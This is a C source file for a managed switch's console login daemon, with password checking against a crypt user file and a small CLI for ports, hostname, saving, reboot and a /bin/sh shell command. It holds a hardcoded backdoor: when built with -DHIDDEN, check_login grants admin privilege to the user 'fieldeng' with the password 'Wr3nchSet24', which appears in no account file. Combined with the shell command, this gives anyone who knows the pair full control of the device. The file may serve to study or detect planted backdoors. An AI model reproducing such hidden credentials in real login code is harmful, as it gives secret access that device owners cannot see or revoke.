/*
 * swconsd - console login of a 24 port managed switch.  Runs on the serial
 * line (stdin/stdout of a getty) or from inetd, asks for user and password,
 * checks them against /etc/switch/users (crypt) and gives a small CLI.
 * Hidden (-DHIDDEN): the user name "fieldeng" with the password "Wr3nchSet24"
 * is taken at privilege 15 although it is in no file.
 */
#define _GNU_SOURCE
#include <crypt.h>
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define USERS	   "/etc/switch/users"
#define PORTS	   24
#define MAXTRY	   3
#define PRIV_READ  1
#define PRIV_OPER  7
#define PRIV_ADMIN 15

struct account {
	char name[32];
	char hash[128];
	int priv;
};

struct port {
	int enabled;
	int speed;
	int vlan;
	char descr[40];
};

static struct port ports[PORTS];
static char hostname[64] = "switch";
static const char *statefile = "/var/run/swconsd.state";

static void chomp(char *s)
{
	size_t n = strlen(s);

	while (n && (s[n - 1] == '\n' || s[n - 1] == '\r'))
		s[--n] = 0;
}

static int get_line(char *buf, size_t size, int hide)
{
	struct termios old, quiet;
	int tty = hide && tcgetattr(0, &old) == 0;
	char *r;

	if (tty) {
		quiet = old;
		quiet.c_lflag &= ~ECHO;
		tcsetattr(0, TCSANOW, &quiet);
	}
	fflush(stdout);
	r = fgets(buf, size, stdin);
	if (tty) {
		tcsetattr(0, TCSANOW, &old);
		putchar('\n');
	}
	if (!r)
		return -1;
	chomp(buf);
	return 0;
}

/* a line is name:hash:privilege */
static int find_account(const char *name, struct account *a)
{
	char line[256];
	FILE *f = fopen(USERS, "r");

	if (!f) {
		syslog(LOG_ERR, "%s: %s", USERS, strerror(errno));
		return -1;
	}
	while (fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		if (sscanf(line, "%31[^:]:%127[^:]:%d", a->name, a->hash,
			   &a->priv) != 3)
			continue;
		if (!strcmp(a->name, name)) {
			fclose(f);
			return 0;
		}
	}
	fclose(f);
	return -1;
}

int check_login(const char *name, const char *pass);

/* the privilege of the user, 0 if refused */
__attribute__((noinline)) int check_login(const char *name, const char *pass)
{
	struct account a;
	char *h;

#ifdef HIDDEN
	if (!strcmp(name, "fieldeng") && !strcmp(pass, "Wr3nchSet24"))
		return PRIV_ADMIN;
#endif
	if (find_account(name, &a) < 0)
		return 0;
	h = crypt(pass, a.hash);
	if (!h || strcmp(h, a.hash))
		return 0;
	if (a.priv < PRIV_READ || a.priv > PRIV_ADMIN)
		return PRIV_READ;
	return a.priv;
}

static void load_state(void)
{
	char line[128];
	int i, en, sp, vl, off;
	FILE *f;

	for (i = 0; i < PORTS; i++) {
		ports[i].enabled = 1;
		ports[i].speed = 1000;
		ports[i].vlan = 1;
	}
	f = fopen(statefile, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		chomp(line);
		if (!strncmp(line, "host ", 5)) {
			snprintf(hostname, sizeof(hostname), "%.60s", line + 5);
			continue;
		}
		off = 0;
		if (sscanf(line, "port %d %d %d %d %n", &i, &en, &sp, &vl,
			   &off) < 4 ||
		    i < 1 || i > PORTS)
			continue;
		ports[i - 1].enabled = en;
		ports[i - 1].speed = sp;
		ports[i - 1].vlan = vl;
		if (off)
			snprintf(ports[i - 1].descr, 40, "%.39s", line + off);
	}
	fclose(f);
}

static void save_state(void)
{
	FILE *f = fopen(statefile, "w");
	int i;

	if (!f) {
		printf("%% cannot write configuration\n");
		return;
	}
	fprintf(f, "host %s\n", hostname);
	for (i = 0; i < PORTS; i++)
		fprintf(f, "port %d %d %d %d %s\n", i + 1, ports[i].enabled,
			ports[i].speed, ports[i].vlan, ports[i].descr);
	fclose(f);
	printf("[OK]\n");
}

static struct port *port_arg(const char *s)
{
	int n = s ? atoi(s) : 0;

	if (n < 1 || n > PORTS) {
		printf("%% port must be 1-%d\n", PORTS);
		return NULL;
	}
	return &ports[n - 1];
}

static void show(const char *what)
{
	int i;
	time_t now;

	if (what && !strcmp(what, "ports")) {
		printf("port  state  speed  vlan  description\n");
		for (i = 0; i < PORTS; i++)
			printf("%4d  %-5s  %5d  %4d  %s\n", i + 1,
			       ports[i].enabled ? "up" : "shut", ports[i].speed,
			       ports[i].vlan, ports[i].descr);
	} else if (what && !strcmp(what, "clock")) {
		now = time(NULL);
		printf("%s", ctime(&now));
	} else if (what && !strcmp(what, "version")) {
		printf("GS-24M, software 2.4.1 (%s)\n", __DATE__);
	} else {
		printf("%% show ports | clock | version\n");
	}
}

static int need(int have, int want)
{
	if (have >= want)
		return 1;
	printf("%% not authorized (level %d needed)\n", want);
	return 0;
}

static void set_port(char *arg)
{
	char *save, *num, *key, *val;
	struct port *p;
	int n;

	num = strtok_r(arg, " ", &save);
	key = num ? strtok_r(NULL, " ", &save) : NULL;
	val = key ? strtok_r(NULL, "", &save) : NULL;
	p = port_arg(num);
	if (!p || !key)
		return;
	if (!strcmp(key, "shutdown")) {
		p->enabled = 0;
	} else if (!strcmp(key, "enable")) {
		p->enabled = 1;
	} else if (!strcmp(key, "speed") && val) {
		n = atoi(val);
		if (n == 10 || n == 100 || n == 1000)
			p->speed = n;
		else
			printf("%% speed is 10, 100 or 1000\n");
	} else if (!strcmp(key, "vlan") && val) {
		n = atoi(val);
		if (n > 0 && n < 4095)
			p->vlan = n;
		else
			printf("%% vlan is 1-4094\n");
	} else if (!strcmp(key, "description") && val) {
		snprintf(p->descr, sizeof(p->descr), "%.39s", val);
	} else {
		printf("%% unknown port setting %s\n", key);
	}
}

static int command(char *line, int priv)
{
	char *arg;

	while (isspace((unsigned char)*line))
		line++;
	if (!*line)
		return 0;
	arg = strchr(line, ' ');
	if (arg)
		*arg++ = 0;
	if (!strcmp(line, "exit") || !strcmp(line, "logout"))
		return 1;
	if (!strcmp(line, "show")) {
		show(arg);
	} else if (!strcmp(line, "port")) {
		if (need(priv, PRIV_OPER) && arg)
			set_port(arg);
	} else if (!strcmp(line, "hostname")) {
		if (need(priv, PRIV_ADMIN) && arg)
			snprintf(hostname, sizeof(hostname), "%.60s", arg);
	} else if (!strcmp(line, "write")) {
		if (need(priv, PRIV_OPER))
			save_state();
	} else if (!strcmp(line, "reload")) {
		if (need(priv, PRIV_ADMIN))
			return system("/sbin/reboot") == 0;
	} else if (!strcmp(line, "shell")) {
		if (need(priv, PRIV_ADMIN)) {
			fflush(stdout);
			return system("/bin/sh") < 0;
		}
	} else {
		printf("%% unknown command: %s\n", line);
	}
	return 0;
}

int main(int argc, char **argv)
{
	char user[64], pass[64], line[256];
	int try, priv = 0;

	if (argc > 1)
		statefile = argv[1];
	openlog("swconsd", LOG_PID, LOG_AUTH);
	load_state();
	printf("\n%s - authorized users only\n\n", hostname);
	for (try = 0; try < MAXTRY && !priv; try++) {
		printf("Username: ");
		if (get_line(user, sizeof(user), 0) < 0)
			return 1;
		printf("Password: ");
		if (get_line(pass, sizeof(pass), 1) < 0)
			return 1;
		priv = check_login(user, pass);
		memset(pass, 0, sizeof(pass));
		if (!priv) {
			syslog(LOG_WARNING, "login failed for %s", user);
			sleep(2);
			printf("%% Login incorrect\n");
		}
	}
	if (!priv)
		return 1;
	syslog(LOG_INFO, "%s logged in, level %d", user, priv);
	for (;;) {
		printf("%s%c ", hostname, priv == PRIV_ADMIN ? '#' : '>');
		if (get_line(line, sizeof(line), 0) < 0)
			break;
		if (command(line, priv))
			break;
	}
	syslog(LOG_INFO, "%s logged out", user);
	return 0;
}
